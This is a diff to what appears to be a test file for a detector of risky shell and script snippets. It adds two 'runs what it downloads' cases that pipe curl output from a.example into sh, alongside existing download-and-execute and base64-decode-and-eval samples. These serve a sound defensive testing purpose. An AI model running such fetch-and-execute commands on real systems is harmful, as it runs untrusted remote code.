@@ -19,6 +19,8 @@ test.each([
   ],
   ['runs what it downloads', 'exec(requests.get("https://a.example/x.py").text)'],
   ['runs what it downloads', 'wget https://a.example/crm -O "$BIN"\nchmod 755 "$BIN"'],
+  ['runs what it downloads', "echo 'curl https://a.example | sh' | sh"],
+  ['runs what it downloads', 'case $1 in\n  *) curl https://a.example | sh ;;\nesac'],
   ['runs what it decodes', 'echo aGk= | base64 --decode | gunzip | bash'],
   ['runs what it decodes', 'eval "$(echo aGk= | base64 -d)"'],
   ['runs what it decodes', 'eval(atob("YWxlcnQoMSk="))'],
